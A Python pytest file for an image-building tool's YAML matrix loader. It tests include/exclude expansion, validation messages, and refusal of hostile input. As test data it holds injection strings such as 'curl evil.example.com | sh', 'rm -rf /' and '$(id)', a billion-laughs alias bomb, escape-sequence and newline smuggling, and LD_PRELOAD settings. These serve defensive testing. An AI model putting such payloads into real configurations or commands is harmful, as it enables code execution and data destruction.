"""Matrix expansion (GitHub Actions include/exclude semantics) and validation errors."""

from __future__ import annotations

import subprocess
import sys

import pytest

from imagefactory.config import matrix
from imagefactory.errors import ConfigError
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Callable
import yaml
from tests.unit.helpers import run_cli
from imagefactory import terminal
from imagefactory.files import yamlfile
from imagefactory.render import contexts
from tests.unit.helpers import HARDENING_PIP as PIP_III, hardening_project, list_refused as refused, one_error, write_matrix_text as write
from tests.unit.helpers import GOLDEN_CERT as CERT, ONE_CELL as BASE_HOSTILE, ONE_PIP_CELL, PRIVATE_KEY as KEY

BASE = """
image: registry.example.com/ml/train
matrix:
  python: ["3.10", "3.11"]
  cuda: ["none", "12.6"]
  blas: [mkl, openblas]
torch: "2.7.1"
"""


def ids(m):
    return sorted(c.id for c in m.cells)


def problems(write_matrix, text):
    with pytest.raises(ConfigError) as e:
        matrix.load(write_matrix(text))
    return e.value.problems


def test_product_of_axes_with_default_installer(write_matrix):
    m = matrix.load(write_matrix(BASE))
    assert len(m.cells) == 8
    assert "py3.10-cu12.6-mkl-conda" in ids(m)
    c = m.cell("py3.11-cpu-openblas-conda")
    assert (c.python, c.cuda, c.blas, c.installer, c.torch, c.threads) == ("3.11", None, "openblas", "conda", "2.7.1", 4)
    assert c.base_image == "debian:bookworm-slim"
    assert c.tags == ("registry.example.com/ml/train:2.7.1-py3.11-cpu-openblas",)


def test_exclude_is_a_partial_match(write_matrix):
    text = BASE.replace('blas: [mkl, openblas]', 'blas: [mkl, openblas]\n  exclude:\n    - {cuda: "12.6", blas: openblas}\n    - {python: "3.10", cuda: "12.6"}')
    m = matrix.load(write_matrix(text))
    assert ids(m) == sorted([
        "py3.10-cpu-mkl-conda", "py3.10-cpu-openblas-conda",
        "py3.11-cpu-mkl-conda", "py3.11-cpu-openblas-conda", "py3.11-cu12.6-mkl-conda",
    ])


def test_include_extends_matching_cells_and_adds_new_ones(write_matrix):
    text = BASE.replace('blas: [mkl, openblas]', '''blas: [mkl, openblas]
  include:
    - {cuda: "12.6", torch: "2.7.0", packages: [scipy]}
    - {python: "3.12", cuda: "none", blas: openblas, installer: pip, threads: 2}''')
    text = text.replace('torch: "2.7.1"', 'torch: "2.7.1"\npip: {torch_index_url: "https://download.pytorch.org/whl/{variant}"}')
    m = matrix.load(write_matrix(text))
    assert len(m.cells) == 9
    assert m.cell("py3.10-cu12.6-mkl-conda").torch == "2.7.0"
    assert m.cell("py3.10-cu12.6-mkl-conda").packages == ("scipy",)
    assert m.cell("py3.10-cpu-mkl-conda").torch == "2.7.1"
    new = m.cell("py3.12-cpu-openblas-pip")
    assert (new.threads, new.base_image) == (2, "python:3.12-slim-bookworm")
    assert new.tags == ("registry.example.com/ml/train:2.7.1-py3.12-cpu-openblas-pip",)


def test_include_never_overwrites_an_original_axis_value(write_matrix):
    # {python: 3.11, installer: pip} cannot extend the conda cells of 3.11 (installer would
    # change), so it matches none and, lacking cuda/blas, cannot be a new cell either.
    text = BASE.replace('blas: [mkl, openblas]', 'blas: [mkl, openblas]\n  include:\n    - {python: "3.11", installer: pip}')
    (p,) = problems(write_matrix, text)
    assert p.endswith("matrix.include[0]: matches no cell, and a new cell needs cuda, blas")
    assert ":7: " in p


def test_base_registry_prefixes_docker_hub_images_only(write_matrix):
    text = BASE + 'base_registry: 127.0.0.1:5000\nbase_images: {conda: "nvcr.io/nvidia/base:1"}\n'
    m = matrix.load(write_matrix(text))
    assert m.cells[0].base_image == "nvcr.io/nvidia/base:1"
    assert matrix.apply_base_registry("debian:bookworm-slim", "m.example.com/hub") == "m.example.com/hub/library/debian:bookworm-slim"
    assert matrix.apply_base_registry("nvidia/cuda:12.6.0-base", "m:5000") == "m:5000/nvidia/cuda:12.6.0-base"


@pytest.mark.parametrize("change, line, key, words", [
    ("threds: 4", 7, "threds", ["unknown key 'threds'", "did you mean 'threads'?", "allowed:"]),
    ("threads: four", 7, "threads", ["'four'", "auto"]),
    ("threads: 0", 7, "threads", ["out of range"]),
    ('numpy: "2.x"', 7, "numpy", ["malformed"]),
    ("conda: {distribution: anaconda}", 7, "conda.distribution", ["'anaconda' is not allowed (allowed: miniforge, miniconda)"]),
    ("conda: {distribution: miniconda}", 7, "conda", ["needs conda.version and conda.sha256"]),
    ('conda: {version: "24.1.0-0"}', 7, "conda.version", ["needs conda.sha256"]),
    ("ca_certificates: [certs/missing.pem]", 7, "ca_certificates[0]", ["file not found"]),
    ("pip: {wheelhouse: nowhere/}", 7, "pip.wheelhouse", ["directory not found"]),
    ("pip: {index_url: 'https://user:secret@mirror.example.com/simple'}", 7, "pip.index_url", ["credentials"]),
    ("tags: {template: '{image}:{nope}'}", 7, "tags.template", ["unknown field {nope}"]),
    ("tags: {template: '{image}:%s', extra: [date]}" % ("x" * 120), 7, "tags.extra", ["not a valid Docker reference"]),
    ("env: {OMP_NUM_THREADS: '64'}", 7, "env.OMP_NUM_THREADS", ["set by imagefactory (use threads)"]),
    ("tags: {template: '{image}:{torch}+{python}'}", 7, "tags.template", ["malformed"]),
    ("tags: {template: '{image}:.{torch}'}", 7, "tags.template", ["not a valid Docker reference"]),
])
def test_each_problem_names_file_line_and_key(write_matrix, change, line, key, words):
    (p,) = problems(write_matrix, BASE + change + "\n")
    assert p.startswith(f"{write_matrix('x').parent}/matrix.yaml:{line}: {key}: ") or f"matrix.yaml:{line}: {key}: " in p, p
    for w in words:
        assert w in p, p


def test_unquoted_version_read_as_float_gets_a_hint(write_matrix):
    (p,) = problems(write_matrix, BASE.replace('["3.10", "3.11"]', '[3.10, "3.11"]'))
    assert "matrix.yaml:3: matrix.python[0]:" in p and "quote it" in p and "3.1" in p


def test_yaml_syntax_error_has_its_line(write_matrix):
    (p,) = problems(write_matrix, BASE + "threads: [4\n")
    assert "matrix.yaml:" in p and "(yaml)" in p


def test_duplicate_key_is_reported(write_matrix):
    ps = problems(write_matrix, BASE + 'torch: "2.8.0"\n')
    assert any(":7: torch: key given twice" in p for p in ps)


def test_duplicate_axis_value_is_a_duplicate_cell(write_matrix):
    ps = problems(write_matrix, BASE.replace('["none", "12.6"]', '["none", "12.6", "none"]'))
    assert any(":4: matrix.cuda[2]: 'none' is listed twice" in p for p in ps)


def test_empty_matrix_after_exclude(write_matrix):
    text = BASE.replace('blas: [mkl, openblas]', 'blas: [mkl]\n  exclude:\n    - {blas: mkl}')
    (p,) = problems(write_matrix, text)
    assert "matrix.yaml:2: matrix: no cell is left after exclude" in p


def test_exclude_value_not_in_axis_is_a_typo(write_matrix):
    text = BASE.replace('blas: [mkl, openblas]', 'blas: [mkl, openblas]\n  exclude:\n    - {cuda: "12.9"}')
    (p,) = problems(write_matrix, text)
    assert ":7: matrix.exclude[0].cuda: '12.9' is not in matrix.cuda" in p


def test_pip_mkl_without_an_mkl_numpy_index_cannot_work(write_matrix):
    text = BASE.replace("blas: [mkl, openblas]", "blas: [mkl]\n  installer: [pip]")
    ps = problems(write_matrix, text)
    assert any("PyPI's NumPy is linked to OpenBLAS only" in p for p in ps)
    ok = text + "pip: {numpy_index_url: 'https://software.repos.intel.com/python/pypi'}\n"
    assert len(matrix.load(write_matrix(ok)).cells) == 4


def test_pypi_torch_cuda_must_match_its_default_build(write_matrix):
    text = BASE.replace("blas: [mkl, openblas]", "blas: [openblas]\n  installer: [pip]").replace('["none", "12.6"]', '["12.6", "13.0"]')
    text = text.replace('torch: "2.7.1"', 'torch: "2.13.0"') + "pip: {torch_index_url: null}\n"
    ps = problems(write_matrix, text)
    assert len(ps) == 2  # 3.10 and 3.11 at cu12.6; cu13.0 is PyPI's build for 2.13
    assert all("PyPI has no torch 2.13.0 build for CUDA 12.6" in p and "set pip.torch_index_url" in p for p in ps)


def test_every_problem_at_once(write_matrix):
    ps = problems(write_matrix, BASE + "threds: 4\nnumpy: bad\nlabels: {Bad Key: x}\n")
    assert len(ps) == 3
    assert [p.split(":")[1] for p in ps] == ["7", "8", "9"]


@pytest.mark.parametrize("change", [
    'torch: "2.7.1\\nRUN curl evil.example.com | sh"',
    'packages: ["numpy; rm -rf /"]',
    'packages: ["$(curl evil)"]',
    'env: {FOO: "x\\" && curl evil"}',
    'env: {"FOO BAR": "x"}',
    'env: {FOO: "$(id)"}',
    'labels: {a: "`id`"}',
    'base_images: {conda: "debian:12\\nRUN id"}',
    'base_images: {conda: "debian:12 AS x"}',
    "pip: {index_url: \"https://x.example.com/'; id; '\"}",
    "conda: {channels: ['conda-forge --override-channels']}",
    'user: {name: "root; id"}',
])
def test_injection_attempts_are_refused(write_matrix, change):
    text = BASE.replace('torch: "2.7.1"\n', "") + change + "\n"
    if not change.startswith("torch"):
        text += 'torch: "2.7.1"\n'
    assert problems(write_matrix, text)


def test_root_user_is_refused(write_matrix):
    (p,) = problems(write_matrix, BASE + "user: {uid: 0}\n")
    assert "user.uid" in p


def test_cli_reports_problems_with_exit_code_2_and_no_traceback(write_matrix, tmp_path):
    path = write_matrix(BASE + "threds: 4\n")
    out = tmp_path / "out"
    r = subprocess.run([sys.executable, "-m", "imagefactory", "render", "--matrix", str(path), "--out", str(out)],
                       capture_output=True, text=True)
    assert r.returncode == 2
    assert "Traceback" not in r.stderr
    assert r.stderr.strip().startswith("error: ") and "threds" in r.stderr
    assert not out.exists()


def test_cli_unknown_only_cell(write_matrix):
    path = write_matrix(BASE)
    r = subprocess.run([sys.executable, "-m", "imagefactory", "list", "--matrix", str(path), "--only", "py3.9-cpu-mkl-conda"],
                       capture_output=True, text=True)
    assert r.returncode == 2 and "--only py3.9-cpu-mkl-conda: no such cell" in r.stderr


def test_shipped_matrices_are_valid():
    from tests.conftest import REPO

    m = matrix.load(REPO / "matrix.yaml")
    assert {c.installer for c in m.cells} == {"conda"}
    assert {c.python for c in m.cells} == {"3.11", "3.12", "3.13"}
    assert {c.cuda for c in m.cells} == {None, "12.9", "13.0"}
    assert {c.blas for c in m.cells} == {"mkl", "openblas"}


# A conda cell of variant `pip` and an include entry adding a pip cell of no variant: under the default
# template both are ...-cpu-openblas-pip (the variant's suffix and the pip installer's read alike).
PIP_VARIANT = """
image: registry.example.com/ml/train
matrix:
  python: ["3.12"]
  cuda: ["none"]
  blas: [openblas]
  installer: [conda]
  variant: [pip]
  include:
    - {python: "3.12", cuda: "none", blas: openblas, installer: pip}
torch: "2.13.0"
"""


def test_two_cells_of_one_release_tag_are_named_in_one_located_line(write_matrix, tmp_path, monkeypatch, capsys):
    from tests.unit.helpers import run_cli

    path = write_matrix(PIP_VARIANT)
    monkeypatch.chdir(tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    code, out, err = run_cli(["list", "--matrix", str(path)], monkeypatch, capsys)
    assert code == 2 and out == ""
    (line,) = err.strip().splitlines()
    assert line.startswith(f"error: {path.name}:9: matrix.include[0]: "), line  # the entry that adds the second cell
    assert "cells py3.12-cpu-openblas-conda-pip and py3.12-cpu-openblas-pip would both be tagged" in line
    assert "'registry.example.com/ml/train:2.13.0-py3.12-cpu-openblas-pip'" in line
    assert "not in matrix.variant" not in line and "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # nothing written


def test_a_shared_tag_of_a_template_the_file_sets_points_at_the_template(write_matrix):
    (p,) = problems(write_matrix, PIP_VARIANT + 'tags: {template: "{image}:{python}-{accel}"}\n')
    assert ":11: tags.template: cells py3.12-cpu-openblas-conda-pip and py3.12-cpu-openblas-pip" in p
    assert "add a field such as {id} to tags.template" in p


def test_an_include_without_a_variant_adds_a_cell_of_no_variant(write_matrix):
    """Only a variant an include entry names must be listed under matrix.variant (a typo would add a
    cell); an entry that names none adds a cell of no variant, tagged apart from the others."""
    m = matrix.load(write_matrix(PIP_VARIANT.replace("variant: [pip]", "variant: [vision]")))
    assert ids(m) == ["py3.12-cpu-openblas-conda-vision", "py3.12-cpu-openblas-pip"]
    assert m.cell("py3.12-cpu-openblas-pip").variant == ""
    with pytest.raises(ConfigError) as e:
        matrix.load(write_matrix(PIP_VARIANT.replace("installer: pip}", "installer: pip, variant: visoin}")))
    assert "'visoin' is not in matrix.variant (pip)" in e.value.problems[0]


# -- moved from test_hardening_matrix.py ----------------------------------------


BASE_HM = "\n" + ONE_PIP_CELL


CELL = "py3.11-cpu-openblas-pip"


def problems_HM(write_matrix, text: str) -> list[str]:
    with pytest.raises(ConfigError) as e:
        matrix.load(write_matrix(text))
    assert e.value.exit_code == 2
    return e.value.problems


def loads(write_matrix, text: str):
    return matrix.load(write_matrix(text))


# -- every problem at once -------------------------------------------------------------------------
def test_two_misspelled_keys_are_two_problems(write_matrix):
    ps = problems_HM(write_matrix, BASE_HM + "threds: 4\ncompilr: false\npip: {indx_url: x, whelhouse: y}\n")
    assert len(ps) == 4
    assert any("threds" in p and "did you mean 'threads'" in p for p in ps)
    assert any("compilr" in p and "did you mean 'compiler'" in p for p in ps)
    assert any("pip.indx_url" in p for p in ps) and any("pip.whelhouse" in p for p in ps)


# -- look-alike keys -------------------------------------------------------------------------------
@pytest.mark.parametrize("key,named", [("t\u043erch", "U+043E CYRILLIC SMALL LETTER O"),
                                       ("torch\u3164", "U+3164 HANGUL FILLER")])
def test_a_look_alike_key_names_its_code_point(write_matrix, key, named):
    [p] = problems_HM(write_matrix, BASE_HM.replace('torch: "2.13.0"', f'torch: "2.13.0"\n{key}: "2.7.1"'))
    assert f"it holds {named}" in p and "did you mean 'torch'" in p


def test_a_plain_key_gets_no_code_point_note(write_matrix):
    [p] = problems_HM(write_matrix, BASE_HM + "threds: 4\n")
    assert "U+" not in p


# -- env -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["LD_PRELOAD", "LD_AUDIT", "BASH_ENV", "ENV"])
def test_loader_variables_need_env_allow(write_matrix, name):
    [p] = problems_HM(write_matrix, BASE_HM + f"env: {{{name}: /opt/x.so}}\n")
    assert f"env.{name}" in p and "env_allow" in p
    m = loads(write_matrix, BASE_HM + f"env: {{{name}: /opt/x.so}}\nenv_allow: [{name}]\n")
    assert (name, "/opt/x.so") in m.cell(CELL).env


def test_a_loader_variable_in_an_include_entry_is_refused_too(write_matrix):
    text = BASE_HM.replace("  installer: [pip]", '  installer: [pip]\n  include:\n    - {python: "3.11", env: {LD_PRELOAD: /x.so}}')
    [p] = problems_HM(write_matrix, text)
    assert "matrix.include[0].env.LD_PRELOAD" in p


def test_env_allow_must_allow_something_used(write_matrix):
    ps = problems_HM(write_matrix, BASE_HM + "env_allow: [LD_PRELOAD, FOO]\n")
    assert any("env_allow[0]" in p and "no env sets it" in p for p in ps)
    assert any("env_allow[1]" in p and "needs no allowing" in p for p in ps)


@pytest.mark.parametrize("name", ["OMP_THREAD_LIMIT", "OMP_DYNAMIC", "MKL_DYNAMIC", "GOTO_NUM_THREADS"])
def test_thread_controls_that_fight_threads_are_refused(write_matrix, name):
    [p] = problems_HM(write_matrix, BASE_HM + f"env: {{{name}: '2'}}\nenv_allow: []\n")
    assert f"env.{name}" in p and "set threads instead" in p


@pytest.mark.parametrize("name", sorted(matrix.MANAGED_ENV))
def test_managed_names_are_refused(write_matrix, name):
    [p] = problems_HM(write_matrix, BASE_HM + f"env: {{{name}: x}}\n")
    assert f"{name} is set by imagefactory" in p


def test_mkl_threading_layer_is_managed():
    assert "MKL_THREADING_LAYER" in matrix.MANAGED_ENV  # render.py bakes it; the checks judge it


# -- plain http ------------------------------------------------------------------------------------
@pytest.mark.parametrize("setting,key", [
    ("pip: {index_url: 'http://pypi.example.com/simple'}", "pip.index_url"),
    ("pip: {extra_index_urls: ['https://a.example.com', 'http://b.example.com/simple']}", "pip.extra_index_urls[1]"),
    ("pip: {torch_index_url: 'http://127.0.0.1.evil.example/whl/{variant}'}", "pip.torch_index_url"),
    ("pip: {numpy_index_url: 'http://mkl.example.com'}", "pip.numpy_index_url"),
    ("conda: {channels: ['http://conda.example.com/forge']}", "conda.channels[0]"),
])
def test_plain_http_off_loopback_is_refused(write_matrix, setting, key):
    ps = problems_HM(write_matrix, BASE_HM + setting + "\n")
    assert any(key in p and "plain http" in p for p in ps), ps


@pytest.mark.parametrize("url", ["http://127.0.0.1:3141/simple", "http://localhost/simple",
                                 "http://127.1.2.3:8080/simple", "https://pypi.example.com/simple"])
def test_plain_http_on_loopback_and_https_are_fine(write_matrix, url):
    assert loads(write_matrix, BASE_HM + f"pip: {{index_url: '{url}'}}\n").pip.index_url == url


# -- uid, YAML 1.1 integers ------------------------------------------------------------------------
def test_a_system_uid_is_refused(write_matrix):
    [p] = problems_HM(write_matrix, BASE_HM + "user: {uid: 999}\n")
    assert "user.uid" in p and "minimum 1000" in p and "system accounts" in p
    assert loads(write_matrix, BASE_HM + "user: {uid: 1000}\n").cell(CELL).uid == 1000


@pytest.mark.parametrize("typed,read", [("02000", 1024), ("0x7d0", 2000), ("1_500", 1500), ("1:20", 80)])
def test_yaml_1_1_integers_are_refused(write_matrix, typed, read):
    [p] = problems_HM(write_matrix, BASE_HM + f"user: {{uid: {typed}}}\n" if read >= 1000 else BASE_HM + f"threads: {typed}\n")
    assert f"{typed} is read by YAML 1.1 as {read}" in p


# -- scratch ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("setting", ["base_images: {pip: scratch}", "base_images: {pip: 'docker.io/library/scratch:latest'}"])
def test_scratch_is_refused(write_matrix, setting):
    [p] = problems_HM(write_matrix, BASE_HM + setting + "\nbase_registry: mirror.example.com\n")
    assert "scratch is the empty image" in p


# -- labels ----------------------------------------------------------------------------------------
def test_labels_may_hold_letters_of_any_script(write_matrix):
    nfd = "Zoe\u0308"  # e + combining diaeresis
    m = loads(write_matrix, BASE_HM + f"labels: {{maintainer: 'José Müller', team: 'Ελένη 李', x: '{nfd}'}}\n")
    assert dict(m.cell(CELL).labels) == {"maintainer": "José Müller", "team": "Ελένη 李", "x": nfd}


@pytest.mark.parametrize("value", ["a\u202eb", "a\u2066b", "a\u200fb", "a\\u0007b", "a\u3164b"])
def test_labels_refuse_control_bidi_and_invisible_characters(write_matrix, value):
    [p] = problems_HM(write_matrix, BASE_HM + f'labels: {{maintainer: "{value}"}}\n')
    assert "labels.maintainer" in p
    if value == "a\u3164b":  # a letter by its category, but shows as nothing
        assert "U+3164 HANGUL FILLER" in p


# -- moved from test_hostile_input.py ----------------------------------------


REPO = Path(__file__).resolve().parents[3]


GOLDEN = REPO / "tests" / "golden"


TWO_CELLS = BASE_HOSTILE.replace("blas: [openblas]", "blas: [openblas, mkl]")


PIP = BASE_HOSTILE.replace("blas: [openblas]", "blas: [openblas]\n  installer: [pip]")


DIGEST = "sha256:" + "ab" * 32


def _billion_laughs() -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, 9):
        lines.append(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]")
    return "\n".join(lines) + "\n"


def _fifo(name: str) -> Callable[[Path], None]:
    return lambda d: os.mkfifo(d / name)


def _write(name: str, text: str) -> Callable[[Path], None]:
    return lambda d: (d / name).write_text(text)


def _outside_link(d: Path) -> None:
    (d / "wheels").mkdir()
    (d / "wheels" / "torch-2.7.1+cpu-cp311-cp311-linux_x86_64.whl").write_bytes(b"wheel bytes")
    (d / "secret").write_text("root:x:0:0\n")
    (d / "wheels" / "shadow-1.0-py3-none-any.whl").symlink_to(d / "secret")


@dataclass(frozen=True)
class Case:
    id: str
    text: str | bytes  # the whole file
    line: int
    key: str
    words: tuple[str, ...]
    setup: Callable[[Path], None] | None = None


CASES = [
    # Patterns anchored with $ let a final newline through; whole values are checked now.
    Case("python-newline", BASE_HOSTILE.replace('["3.11"]', '["3.11\\n"]'), 3, "matrix.python[0]", ("control character \\n",)),
    Case("cuda-newline", BASE_HOSTILE.replace('["none"]', '["12.6\\n"]'), 4, "matrix.cuda[0]", ("\\n",)),
    Case("torch-newline", BASE_HOSTILE.replace('"2.7.1"', '"2.7.1\\n"'), 6, "torch", ("control character \\n",)),
    Case("package-newline", BASE_HOSTILE + 'packages: ["scipy\\n"]\n', 7, "packages[0]", ("control character \\n",)),
    Case("image-newline", BASE_HOSTILE.replace("image: registry.example.com/ml/train",
                                       'image: "registry.example.com/ml/train\\n"'), 1, "image", ("\\n",)),
    Case("env-value-newline", BASE_HOSTILE + 'env: {FOO: "bar\\nRUN id"}\n', 7, "env.FOO", ("control character \\n",)),
    Case("user-newline", BASE_HOSTILE + 'user: {name: "trainer\\n"}\n', 7, "user.name", ("\\n",)),
    Case("channel-newline", BASE_HOSTILE + 'conda: {channels: ["conda-forge\\n"]}\n', 7, "conda.channels[0]", ("\\n",)),
    Case("template-newline", BASE_HOSTILE + 'tags: {template: "{image}:x\\n"}\n', 7, "tags.template", ("\\n",)),
    # Keys that are not text.
    Case("env-int-key", BASE_HOSTILE + "env: {42: x}\n", 7, "env.42", ("read as a number", "quote it")),
    Case("label-bool-key", BASE_HOSTILE + "labels: {true: x}\n", 7, "labels.true", ("read as true/false",)),
    Case("label-date-key", BASE_HOSTILE + "labels: {2024-01-01: x}\n", 7, "labels.2024-01-01", ("read as a date",)),
    Case("top-null-key", BASE_HOSTILE + "null: b\n", 7, "null", ("read as null",)),
    Case("axis-int-key", BASE_HOSTILE.replace("  blas: [openblas]", "  blas: [openblas]\n  3: x"), 6, "matrix.3",
         ("read as a number",)),
    Case("complex-key", BASE_HOSTILE + "? [a, b]\n: c\n", 7, "(top level)", ("must be text",)),
    # Resource exhaustion.
    Case("alias-bomb", BASE_HOSTILE + _billion_laughs(), 8, "(yaml)", ("aliases expand the document",)),
    Case("nested-flow", BASE_HOSTILE + "x: " + "[" * 500 + "\n", 7, "(yaml)", ("nested deeper than",)),
    Case("nested-block", BASE_HOSTILE + "".join(f"{' ' * i}k{i}:\n" for i in range(40)), 39, "(yaml)", ("nested deeper",)),
    Case("many-values", BASE_HOSTILE + "x: [" + "1," * 25000 + "1]\n", 7, "(yaml)", ("more than 20000 values",)),
    # Types.
    Case("threads-float", BASE_HOSTILE + "threads: 4.0\n", 7, "threads", ("a thread count, or auto, got float",)),
    Case("uid-float", BASE_HOSTILE + "user: {uid: 1000.0}\n", 7, "user.uid", ("expected integer, got float",)),
    Case("threads-bool", BASE_HOSTILE + "threads: true\n", 7, "threads", ("a thread count, or auto, got bool",)),
    Case("python-float", BASE_HOSTILE.replace('["3.11"]', "[3.10]"), 3, "matrix.python[0]", ('write "3.10"',)),
    Case("python-3.1", BASE_HOSTILE.replace('["3.11"]', '["3.1"]'), 3, "matrix.python[0]", ("'3.1' is not allowed",)),
    Case("python-3.99", BASE_HOSTILE.replace('["3.11"]', '["3.99"]'), 3, "matrix.python[0]", ("'3.99' is not allowed",)),
    Case("torch-date", BASE_HOSTILE.replace('"2.7.1"', "2024-01-01"), 6, "torch", ("expected string, got date",)),
    Case("template-lone-open", BASE_HOSTILE + 'tags: {template: "{image}:{"}\n', 7, "tags.template", ("braces only",)),
    Case("template-lone-close", BASE_HOSTILE + 'tags: {template: "{image}:x}"}\n', 7, "tags.template", ("braces only",)),
    Case("template-positional", BASE_HOSTILE + 'tags: {template: "{image}:{0}"}\n', 7, "tags.template", ("unknown field",)),
    # Tags shared by two cells would overwrite each other on push.
    Case("same-release-tag", TWO_CELLS + 'tags: {template: "{image}:latest"}\n', 7, "tags.template",
         ("would both be tagged",)),
    Case("same-hash-tag", TWO_CELLS + 'tags: {hash_template: "{image}:fixed"}\n', 7, "tags.hash_template",
         ("with {hash} in it",)),  # refused for lacking the hash, before two cells can share it
    # Credentials in any URL-bearing value.
    Case("conda-installer-creds", BASE_HOSTILE + 'conda: {installer_url: "https://u:p@mirror.example.com/x.sh", '
         f'sha256: "{"0" * 64}"}}\n', 7, "conda.installer_url", ("credentials",)),
    Case("conda-channel-creds", BASE_HOSTILE + 'conda: {channels: ["https://u:p@conda.example.com/cf"]}\n', 7,
         "conda.channels[0]", ("credentials",)),
    Case("env-url-creds", BASE_HOSTILE + 'env: {HF_ENDPOINT: "https://tok@hf.example.com"}\n', 7, "env.HF_ENDPOINT",
         ("credentials",)),
    Case("label-url-creds", BASE_HOSTILE + 'labels: {org.example.src: "https://u:p@git.example.com/r"}\n', 7,
         "labels.org.example.src", ("credentials",)),
    Case("include-env-creds", BASE_HOSTILE.replace("  blas: [openblas]", '  blas: [openblas]\n  include:\n'
         '    - {blas: openblas, env: {U: "s3://key:secret@bucket"}}'), 7, "matrix.include[0].env.U",
         ("credentials",)),
    Case("pip-extra-index-creds", BASE_HOSTILE + 'pip: {extra_index_urls: ["https://u:p@idx.example.com/simple"]}\n', 7,
         "pip.extra_index_urls[0]", ("credentials",)),
    # CA certificates: regular files, certificates only.
    Case("ca-fifo", BASE_HOSTILE + "ca_certificates: [ca.pem]\n", 7, "ca_certificates[0]", ("is a FIFO",), _fifo("ca.pem")),
    Case("ca-directory", BASE_HOSTILE + "ca_certificates: [ca.pem]\n", 7, "ca_certificates[0]", ("is a directory",),
         lambda d: (d / "ca.pem").mkdir()),
    Case("ca-proc", BASE_HOSTILE + "ca_certificates: [/proc/self/environ]\n", 7, "ca_certificates[0]",
         ("pseudo file system",)),
    Case("ca-with-key", BASE_HOSTILE + "ca_certificates: [ca.pem]\n", 7, "ca_certificates[0]", ("private key",),
         _write("ca.pem", CERT + KEY)),
    Case("ca-bad-base64", BASE_HOSTILE + "ca_certificates: [ca.pem]\n", 7, "ca_certificates[0]", ("base64",),
         _write("ca.pem", "-----BEGIN CERTIFICATE-----\n!!!!\n-----END CERTIFICATE-----\n")),
    Case("ca-missing", BASE_HOSTILE + "ca_certificates: [ca.pem]\n", 7, "ca_certificates[0]", ("file not found",)),
    # Wheelhouse: a link out of it is refused.
    Case("wheel-link-out", PIP + "pip: {wheelhouse: wheels, torch_index_url: null}\n", 8, "pip.wheelhouse",
         ("outside the wheelhouse",), _outside_link),
    # Smaller ones.
    Case("nul-byte", BASE_HOSTILE.encode() + b"env: {A: \"x\x00\"}\n", 7, "(yaml)", ("control character \\x00",)),
    Case("not-utf8", BASE_HOSTILE.encode() + b"labels: {a: \"caf\xe9\"}\n", 7, "(yaml)", ("byte 0xe9 is not UTF-8",)),
    Case("escape-in-key", BASE_HOSTILE + 'env: {"\\e[2K\\rerror: forged": x}\n', 7, "env.\\x1b[2K\\rerror: forged",
         ("control character \\x1b",)),
    Case("escape-in-value", BASE_HOSTILE + 'labels: {a: "\\e]0;title\\a"}\n', 7, "labels.a", ("control character \\x1b",)),
    Case("builtin-label", BASE_HOSTILE + "labels: {io.imagefactory.cell: fake}\n", 7, "labels.io.imagefactory.cell",
         ("set by imagefactory",)),
    Case("pep508-bang", PIP + "packages: [scipy!1.0]\n", 8, "packages[0]", ("not a pip requirement",)),
    Case("pep508-tilde", PIP + "packages: [pandas~2]\n", 8, "packages[0]", ("not a pip requirement",)),
    Case("pep508-single-eq", PIP + "packages: [requests=2.0]\n", 8, "packages[0]", ("not a pip requirement",)),
    Case("conda-spec-bang", BASE_HOSTILE + "packages: [scipy!1.0]\n", 7, "packages[0]", ("not a conda package spec",)),
    Case("base-image-venv", PIP + "base_images: {pip: venv}\n", 8, "base_images.pip", ("build stage",)),
    Case("base-image-bad-digest", BASE_HOSTILE + 'base_images: {conda: "debian@sha256:abc"}\n', 7, "base_images.conda",
         ("malformed",)),
    Case("long-image", BASE_HOSTILE.replace("ml/train", "a" * 300), 1, "image", ("too long (at most 255)",)),
    Case("long-wheelhouse", PIP + f"pip: {{wheelhouse: {'w' * 300}, torch_index_url: null}}\n", 8, "pip.wheelhouse",
         ("cannot be read: File name too long",)),
    Case("long-ca-name", BASE_HOSTILE + f"ca_certificates: [{'c' * 300}.pem]\n", 7, "ca_certificates[0]",
         ("File name too long",)),
    Case("long-value", BASE_HOSTILE.replace('"2.7.1"', '"' + "9" * 100_000 + '"'), 6, "torch", ("more characters",)),
]


def assert_one_located_line(err: str, path: Path | str, line: int | None, key: str | None) -> str:
    lines = err.splitlines()
    assert len(lines) == 1, err
    (only,) = lines
    prefix = f"error: {path}:{line}: {key}: " if line is not None else f"error: {path}: "
    assert only.startswith(prefix), (prefix, only)
    assert all(c.isprintable() for c in only), repr(only)
    assert len(only) < 600, len(only)
    return only


@pytest.mark.parametrize("command", ["list", "render"])
@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_exits_2_with_one_located_line_and_writes_nothing(case, command, tmp_path, monkeypatch, capsys):
    path = tmp_path / "matrix.yaml"
    if isinstance(case.text, bytes):
        path.write_bytes(case.text)
    else:
        path.write_text(case.text)
    if case.setup:
        case.setup(tmp_path)
    out = tmp_path / "out"
    args = [command, "--matrix", str(path)] + (["--out", str(out)] if command == "render" else [])
    code, stdout, err = run_cli(args, monkeypatch, capsys)
    assert code == 2, err
    only = assert_one_located_line(err, path, case.line, case.key)
    for word in case.words:
        assert word in only, only
    assert stdout == ""
    assert not out.exists()


def test_cases_are_many_and_distinct():
    assert len(CASES) >= 40 and len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("setup, words", [
    (lambda p: Path("/dev/zero"), "is a character device, not a regular file"),
    (lambda p: (os.mkfifo(p), p)[1], "is a FIFO (named pipe), not a regular file"),
    (lambda p: (p.mkdir(), p)[1], "is a directory, not a regular file"),
    (lambda p: (p.write_text(BASE_HOSTILE + "#" * (matrix.MAX_BYTES + 1)), p)[1], "is larger than"),
], ids=["dev-zero", "fifo", "directory", "too-large"])
def test_matrix_that_is_not_a_small_regular_file(setup, words, tmp_path, monkeypatch, capsys):
    path = setup(tmp_path / "matrix.yaml")
    code, _, err = run_cli(["render", "--matrix", str(path), "--out", str(tmp_path / "out")], monkeypatch, capsys)
    assert code == 2
    assert words in assert_one_located_line(err, path, None, None)
    assert not (tmp_path / "out").exists()


